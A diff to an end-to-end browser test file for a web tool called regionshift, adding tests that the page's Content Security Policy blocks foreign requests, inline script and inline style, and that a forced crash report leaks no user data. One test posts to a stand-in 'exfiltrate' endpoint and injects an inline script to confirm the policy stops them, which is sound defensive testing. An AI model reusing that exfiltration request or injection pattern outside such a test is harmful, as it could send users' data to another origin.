@@ -12,6 +12,8 @@ import { chromium } from "playwright-core";
 const here = path.dirname(fileURLToPath(import.meta.url));
 const repo = path.resolve(here, "../..");
 const dist = path.join(repo, "dist");
+// The same release build with the test-only hooks (`?panic=STAGE`), built by scripts/test.
+const distTest = path.join(repo, "dist-test");
 const fixtures = path.join(repo, "tests/fixtures/inventory");
 const SUB_PATH = "/tools/regionshift/";
 const TYPES = {
@@ -27,10 +29,12 @@ const TYPES = {
 
 let server;
 let origin;
+let testServer;
+let testOrigin;
 let browser;
 
-/** A plain static file server for dist/, mounted under SUB_PATH and nothing else. */
-function serveDist() {
+/** A plain static file server for a built site (dist/ by default), mounted under SUB_PATH and nothing else. */
+function serveDist(root = dist) {
   return new Promise((resolve) => {
     const srv = http.createServer((req, res) => {
       const url = new URL(req.url, "http://x");
@@ -39,8 +43,8 @@ function serveDist() {
         return;
       }
       let rel = decodeURIComponent(url.pathname.slice(SUB_PATH.length)) || "index.html";
-      const file = path.join(dist, path.normalize(rel));
-      if (!file.startsWith(dist) || !fs.existsSync(file) || fs.statSync(file).isDirectory()) {
+      const file = path.join(root, path.normalize(rel));
+      if (!file.startsWith(root) || !fs.existsSync(file) || fs.statSync(file).isDirectory()) {
         res.writeHead(404).end("not found");
         return;
       }
@@ -55,6 +59,9 @@ before(async () => {
   assert.ok(fs.existsSync(path.join(dist, "index.html")), "build the site first (scripts/build)");
   server = await serveDist();
   origin = `http://127.0.0.1:${server.address().port}`;
+  assert.ok(fs.existsSync(path.join(distTest, "index.html")), "build the test-hook site first (scripts/test builds dist-test/)");
+  testServer = await serveDist(distTest);
+  testOrigin = `http://127.0.0.1:${testServer.address().port}`;
   // A fresh profile every run: playwright-core takes it as launchPersistentContext's
   // directory rather than as a --user-data-dir argument.
   const profile = fs.mkdtempSync(path.join(os.tmpdir(), "regionshift-e2e-"));
@@ -75,10 +82,11 @@ before(async () => {
 after(async () => {
   await browser?.close();
   server?.close();
+  testServer?.close();
 });
 
 /** Opens the app and records every request and console error the page makes. */
-async function openApp() {
+async function openApp(url = origin + SUB_PATH) {
   const page = await browser.newPage();
   const requests = [];
   const errors = [];
@@ -88,7 +96,7 @@ async function openApp() {
   page.on("console", (msg) => {
     if (msg.type() === "error") errors.push(msg.text());
   });
-  await page.goto(origin + SUB_PATH);
+  await page.goto(url);
   await page.getByTestId("sample-button").waitFor({ timeout: 30000 });
   return { page, requests, errors };
 }
@@ -108,14 +116,52 @@ test("the landing page says nothing leaves the browser and carries a strict CSP"
   assert.match(csp, /connect-src 'self'/);
   assert.doesNotMatch(csp, /https?:/, "the CSP names no other origin");
   assert.deepEqual(errors, []);
-  // The browser itself refuses a request to another origin.
-  const outcome = await page.evaluate(() =>
-    fetch("http://127.0.0.2:9/exfiltrate", { method: "POST", body: "x" }).then(
+  await page.close();
+});
+
+// This journey fails when the CSP is removed or loosened: without the policy the
+// inline script runs, the inline style applies and no `securitypolicyviolation` event
+// fires (a request to a closed port fails with or without a policy, so its failure
+// alone proves nothing).
+test("the CSP blocks other origins, inline script and inline style, and the page's own origin still works", async () => {
+  const { page } = await openApp();
+  const outcome = await page.evaluate(async () => {
+    const violations = [];
+    document.addEventListener("securitypolicyviolation", (event) => {
+      violations.push({ directive: event.effectiveDirective, blocked: String(event.blockedURI) });
+    });
+    const settle = () => new Promise((resolve) => setTimeout(resolve, 200));
+    // connect-src: a request to another origin.
+    const foreign = await fetch("http://127.0.0.2:9/exfiltrate", { method: "POST", body: "x" }).then(
       () => "sent",
       () => "blocked",
-    ),
-  );
-  assert.equal(outcome, "blocked");
+    );
+    // script-src: an inline script.
+    const script = document.createElement("script");
+    script.textContent = "window.__inlineScriptRan = true;";
+    document.body.append(script);
+    // style-src: an inline style attribute.
+    const styled = document.createElement("div");
+    styled.setAttribute("style", "width: 123px");
+    document.body.append(styled);
+    const width = styled.getBoundingClientRect().width;
+    // img-src: an image from another origin.
+    const image = new Image();
+    image.src = "http://127.0.0.2:9/pixel.png";
+    document.body.append(image);
+    await settle();
+    // The page's own origin: the page itself, fetched again.
+    const own = await fetch(location.href).then((response) => response.status, () => 0);
+    return { foreign, inlineRan: window.__inlineScriptRan === true, width, own, violations };
+  });
+  assert.equal(outcome.foreign, "blocked");
+  assert.equal(outcome.inlineRan, false, "an inline script ran: the CSP is missing or allows it");
+  assert.notEqual(outcome.width, 123, "an inline style applied: the CSP is missing or allows it");
+  assert.equal(outcome.own, 200, "a same-origin request still works");
+  const directives = new Set(outcome.violations.map((v) => v.directive));
+  for (const directive of ["connect-src", "script-src-elem", "style-src-attr", "img-src"]) {
+    assert.ok(directives.has(directive), `no securitypolicyviolation for ${directive}: ${JSON.stringify(outcome.violations)}`);
+  }
   await page.close();
 });
 
@@ -543,6 +589,47 @@ test("the sample compared over every target: one row each, the suggestion explai
   assert.match(html, new RegExp(`Suggestion: [^<]+\\(${suggested}\\)`));
   const foreign = requests.filter((url) => !url.startsWith(origin + "/") && !url.startsWith("data:") && !url.startsWith("blob:"));
   assert.deepEqual(foreign, []);
+  assert.deepEqual(errors, []);
+  await page.close();
+});
+
+// A panic in the app (release build, panic = "abort") is reported in the page: the
+// test-hook build panics during the analysis when the URL says ?panic=analysis.
+test("a panic says what went wrong and where, keeps the loaded files, and offers a bundle without subscription data", async () => {
+  const { page, requests } = await openApp(testOrigin + SUB_PATH + "?panic=analysis");
+  await page.getByTestId("sample-button").click();
+  const report = page.getByTestId("crash-report");
+  await report.waitFor({ timeout: 30000 });
+  const text = await report.innerText();
+  assert.match(text, /Something went wrong while analysing the inputs/);
+  assert.match(text, /a test panic at the analysis stage/);
+  // The loaded file is still listed; the app underneath takes no more input.
+  assert.match(await page.getByTestId("file-list").innerText(), /sample-estate\.json/);
+  assert.equal(await page.locator("#app").getAttribute("inert"), "");
+  // The bundle names no file and holds no subscription data.
+  const bundleFile = await downloadFrom(page, "crash-bundle", "crash.json");
+  const bundle = JSON.parse(fs.readFileSync(bundleFile, "utf8"));
+  assert.equal(bundle.schema, "regionshift.crash/1");
+  assert.equal(bundle.stage, "analysing the inputs");
+  assert.equal(bundle.subscription_data, false);
+  assert.equal(bundle.source, undefined);
+  assert.ok(!fs.readFileSync(bundleFile, "utf8").includes("sample-estate"), "the plain bundle names no input");
+  assert.ok(bundle.inputs.length === 1 && bundle.inputs[0].size > 0);
+  // Only when the person asks for it does the bundle carry the inputs.
+  const fullFile = await downloadFrom(page, "crash-bundle-with-inputs", "crash-full.json");
+  const full = JSON.parse(fs.readFileSync(fullFile, "utf8"));
+  assert.equal(full.subscription_data, true);
+  assert.equal(full.source.files[0].name, "sample-estate.json");
+  const foreign = requests.filter((url) => !url.startsWith(testOrigin + "/") && !url.startsWith("data:") && !url.startsWith("blob:"));
+  assert.deepEqual(foreign, []);
+  await page.close();
+});
+
+test("the published build ignores the test-only panic request", async () => {
+  const { page, errors } = await openApp(origin + SUB_PATH + "?panic=analysis");
+  await page.getByTestId("sample-button").click();
+  await page.getByTestId("inventory-count").waitFor({ timeout: 30000 });
+  assert.equal(await page.getByTestId("crash-report").count(), 0);
   assert.deepEqual(errors, []);
   await page.close();
 });
